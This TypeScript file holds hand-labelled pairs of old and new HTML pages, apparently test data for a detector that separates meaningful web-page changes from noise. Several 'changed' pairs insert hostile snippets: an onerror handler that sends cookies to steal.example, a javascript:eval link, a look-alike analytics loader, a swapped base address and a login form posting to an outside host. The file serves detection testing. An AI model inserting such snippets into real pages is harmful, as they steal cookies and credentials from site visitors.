import type { Pair } from "./pairs.ts";

const url = "https://www.example.test/page";
const page = (body: string, head = "<title>Notice</title>") =>
  `<html><head>${head}</head><body>${body}</body></html>`;
const filler = `<main><h1>House rules</h1><p>Guests keep the kitchen clean and lock the door when they leave.</p><p>The deposit is paid back after the last check of the rooms.</p></main>`;

function pair(id: string, label: Pair["label"], older: string, newer: string): Pair {
  return { id: `by hand: ${id}`, label, stratum: `by hand, ${label}`, url, old: older, new: newer };
}

/** Pairs written by hand, because their label is a judgment that a generator would only repeat. */
export const handwritten: Pair[] = [
  pair("minified against indented", "noise", page(filler), page(filler.replaceAll("><", ">\n    <"))),
  pair(
    "words swapped in prose",
    "changed",
    page("<main><p>The tenant pays the landlord on the first day.</p></main>"),
    page("<main><p>The landlord pays the tenant on the first day.</p></main>"),
  ),
  pair(
    "not added",
    "changed",
    page("<main><p>Data is sold to partners.</p></main>"),
    page("<main><p>Data is not sold to partners.</p></main>"),
  ),
  pair(
    "cookie policy edited",
    "changed",
    page('<main class="cookie-policy"><p>We use cookies for statistics.</p></main>'),
    page('<main class="cookie-policy"><p>We use cookies for statistics and advertising.</p></main>'),
  ),
  pair(
    "consent dialogue without names",
    "noise",
    page(filler),
    page(
      `${filler}<div class="fixed"><h3>We value your privacy</h3><p>We use cookies that are essential.</p><button>Accept all cookies</button><button>Reject all</button></div>`,
    ),
  ),
  pair(
    "list in another order",
    "noise",
    page("<main><ul><li>Oranges from the south</li><li>Apples from the north</li></ul></main>"),
    page("<main><ul><li>Apples from the north</li><li>Oranges from the south</li></ul></main>"),
  ),
  pair(
    "opening hours",
    "changed",
    page("<main><p>Open 9:00 - 17:00</p></main>"),
    page("<main><p>Open 9:00 - 15:00</p></main>"),
  ),
  pair(
    "clock",
    "noise",
    page(`${filler}<header><span>12:09 AM</span></header>`),
    page(`${filler}<header><span>1:44 PM</span></header>`),
  ),
  pair(
    "phone number in the footer",
    "changed",
    page(`${filler}<footer><p>Call +44 20 7946 0000</p></footer>`),
    page(`${filler}<footer><p>Call +44 20 7946 0999</p></footer>`),
  ),
  pair(
    "checksum in the content",
    "changed",
    page("<main><p>SHA-256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</p></main>"),
    page("<main><p>SHA-256 60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752</p></main>"),
  ),
  pair(
    "trace id",
    "noise",
    page(`${filler}<p>This is the Trace Id: a813b3c2709db5a37cf6574768291ef6</p>`),
    page(`${filler}<p>This is the Trace Id: 0aa8973074a929e846ba247f16a65656</p>`),
  ),
  pair(
    "copyright year",
    "noise",
    page(`${filler}<footer>© 2025 Example. All rights reserved.</footer>`),
    page(`${filler}<footer>© 2026 Example. All rights reserved.</footer>`),
  ),
  pair(
    "copyright owner",
    "changed",
    page(`${filler}<footer>© 2026 Example. All rights reserved.</footer>`),
    page(`${filler}<footer>© 2026 Other Holding. All rights reserved.</footer>`),
  ),
  pair(
    "table value",
    "changed",
    page("<table><tr><th>Irvine</th><td>100</td></tr></table>"),
    page("<table><tr><th>Irvine</th><td>103</td></tr></table>"),
  ),
  pair(
    "folded answer edited",
    "changed",
    page('<main><div style="display:none"><p>Returns are free for 30 days.</p></div></main>'),
    page('<main><div style="display:none"><p>Returns are free for 14 days.</p></div></main>'),
  ),
  pair(
    "renamed bundle",
    "noise",
    page(filler, '<script src="/static/js/main.4f3a9c1e.js"></script>'),
    page(filler, '<script src="/static/js/main.b81d77aa.js"></script>'),
  ),
  pair(
    "look-alike analytics",
    "changed",
    page(filler),
    page(
      `${filler}<script>(function(i,s,o,g,r,a,m){i["GoogleAnalyticsObject"]=r;a=s.createElement(o);a.src=g;s.head.appendChild(a)})(window,document,"script","//www.google-anaiytics.example/ga.js","ga");</script>`,
    ),
  ),
  pair(
    "event handler",
    "changed",
    page(`${filler}<img src="/a.png">`),
    page(`${filler}<img src="/a.png" onerror="fetch('https://steal.example/'+document.cookie)">`),
  ),
  pair(
    "script address",
    "changed",
    page(`${filler}<a href="/pay">Pay now</a>`),
    page(`${filler}<a href="javascript:eval(atob('YQ=='))">Pay now</a>`),
  ),
  pair(
    "base address",
    "changed",
    page(filler, '<base href="https://www.example.test/">'),
    page(filler, '<base href="https://cdn-mirror.example/">'),
  ),
  pair(
    "login form moved",
    "changed",
    page(`${filler}<form action="/login" method="post"><input type="password" name="p"></form>`),
    page(
      `${filler}<form action="//accounts.example/login" method="post"><input type="password" name="p"></form>`,
    ),
  ),
  pair(
    "shop menu dressed for the season",
    "noise",
    page(`<nav>${menu(80)}</nav>${filler}`),
    page(`<nav>${menu(80)}<a href="/spring">Spring offers</a></nav>${filler}`),
  ),
  pair(
    "small menu extended",
    "changed",
    page(`<nav>${menu(6)}</nav>${filler}`),
    page(`<nav>${menu(6)}<a href="/security">Security</a></nav>${filler}`),
  ),
  pair("empty page", "changed", page(filler.repeat(4)), ""),
];

function menu(count: number): string {
  return `<ul>${Array.from({ length: count }, (_, at) => `<li><a href="/m/${at}">Entry ${String.fromCharCode(97 + (at % 26))}${"x".repeat(at % 7)}</a></li>`).join("")}</ul>`;
}
